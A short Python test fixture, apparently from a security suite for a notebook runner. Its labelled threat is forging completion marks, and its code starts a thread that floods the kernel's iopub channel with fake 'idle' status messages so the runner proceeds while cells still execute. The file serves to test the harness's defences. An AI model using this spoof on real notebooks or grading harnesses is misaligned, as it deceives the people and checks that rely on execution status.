# ruff: noqa
# Threat: Forging a mark. `idle` and a reply for every cell at once, so that the runner goes on while cells still run.
# Outcome: completed
# Marks: 8

# %% before double
import threading
kernel = get_ipython().kernel
def lie():
    for _ in range(200):
        parent = kernel.get_parent()
        kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
threading.Thread(target=lie, daemon=True).start()
